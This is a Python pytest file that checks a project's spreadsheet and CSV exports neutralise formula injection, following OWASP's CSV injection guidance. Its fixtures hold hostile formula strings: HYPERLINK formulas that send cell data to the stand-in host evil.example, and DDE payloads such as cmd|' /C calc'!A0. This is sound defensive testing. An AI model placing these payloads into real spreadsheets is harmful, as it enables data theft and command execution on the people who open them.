"""Downloads never run a formula in a spreadsheet (OWASP: CSV injection), and the round trip stays lossless."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from gasatlas.auth import LOCAL_MODERATOR as MODERATOR
from gasatlas.dataset.exports import events_csv, events_excel, frame_records, table_csv
from gasatlas.dataset.load import with_stored
from gasatlas.model.sanitize import guard_cell, unguard_cell
from gasatlas.model.schema import EVENT_COLUMNS
from gasatlas.news.extract import Candidate
from gasatlas.news.ingest import format_candidates
from gasatlas.store import EventStore, export_archive, import_csv
from tests.support.data import shipped_atlas
from tests.support.store import event

ATLAS = shipped_atlas()
FORMULAS = {
    "title_en": '=HYPERLINK("https://evil.example/?x="&B2;"Source")',
    "title_ru": "+cmd|' /C calc'!A0",
    "summary_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary_ru": "-2+3+cmd|' /C calc'!A0",
    "place_name_en": "＝1+1",  # the full-width equals sign Excel also reads as a formula
    "quote": "'=already quoted once",
}


@pytest.fixture
def stored(tmp_path) -> EventStore:
    store = EventStore(f"sqlite:///{tmp_path / 'store.sqlite3'}")
    store.submit(MODERATOR, ATLAS, [event("ev-2023-02-01-formula", **FORMULAS)])
    return store


def formula_row(store: EventStore) -> pd.DataFrame:
    stored = store.frames()
    events = with_stored(ATLAS, stored.events, stored.actors).events
    return events[events["id"] == "ev-2023-02-01-formula"]


def test_the_excel_download_holds_text_cells_never_formulas(stored: EventStore) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(events_excel(formula_row(stored)))).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}

    for field, text in FORMULAS.items():
        assert row[field].data_type == "s", f"{field} must be a text cell"
        assert row[field].value == text, "shown exactly as written"
        assert row[field].quotePrefix, "and stays text when the cell is edited"
    assert row["lat"].data_type == "n", "numbers stay numbers"
    assert pd.read_excel(io.BytesIO(events_excel(formula_row(stored))))["title_en"][0] == FORMULAS["title_en"]


def test_the_csv_download_starts_formula_cells_with_an_apostrophe(stored: EventStore) -> None:
    text = events_csv(frame_records(formula_row(stored), EVENT_COLUMNS))
    cells = next(csv.DictReader(io.StringIO(text)))

    for field, value in FORMULAS.items():
        assert cells[field] == "'" + value
    assert pd.read_csv(io.StringIO(text))["title_en"][0].startswith("'=")
    assert not cells["lon"].startswith("'")
    assert not cells["id"].startswith("'")


def test_the_stored_events_archive_is_guarded_and_reimports_losslessly(stored: EventStore, tmp_path) -> None:
    with zipfile.ZipFile(io.BytesIO(export_archive(stored, ATLAS))) as archive:
        events_text = archive.read("events.csv").decode("utf-8")
        actors_text = archive.read("actors.csv").decode("utf-8")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(events_text))}
    assert rows["ev-2023-02-01-formula"]["title_en"].startswith("'=")

    copy = EventStore(f"sqlite:///{tmp_path / 'copy.sqlite3'}")
    import_csv(copy, MODERATOR, ATLAS, events_text, actors_text)

    assert [e.model_dump() for e in copy.events()] == [e.model_dump() for e in stored.events()]
    assert copy.events()[0].title_en == FORMULAS["title_en"]


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'", "'Tis", "-", "", "plain", "a=b", "\t=x", "@", "＋1"])
def test_guarding_a_cell_can_always_be_undone(text: str) -> None:
    assert unguard_cell(guard_cell(text)) == text


def test_the_audit_log_download_starts_a_formula_comment_with_an_apostrophe_and_keeps_the_time(
        stored: EventStore) -> None:
    formula = '=HYPERLINK("https://evil.example/?x="&A2;"Click for the source")'
    stored.delete(MODERATOR, ATLAS, "ev-2023-02-01-formula", 1, formula)
    log = stored.audit_log(MODERATOR)

    rows = list(csv.DictReader(io.StringIO(table_csv(log))))

    assert list(rows[0]) == list(log.columns)
    [deleted] = [row for row in rows if row["action"] == "delete"]
    assert deleted["comment"] == "'" + formula
    assert unguard_cell(deleted["comment"]) == formula
    assert deleted["changes"] == "status"
    assert pd.Timestamp(deleted["at"]) == log.loc[log["action"] == "delete", "at"].iloc[0], "to the microsecond"


def test_the_command_lines_csv_of_candidates_is_guarded_like_every_download() -> None:
    candidate = Candidate(event={"id": "ev-2024-03-15-x", "title_en": FORMULAS["title_en"],
                                 "summary_ru": FORMULAS["summary_ru"]}, confidence=0.5, flags=[], new_actors=[],
                          sentence_index=0)

    [row] = csv.DictReader(io.StringIO(format_candidates([candidate], "csv", [[]])))

    assert row["title_en"] == "'" + FORMULAS["title_en"]
    assert row["summary_ru"] == "'" + FORMULAS["summary_ru"]
    assert row["id"] == "ev-2024-03-15-x"
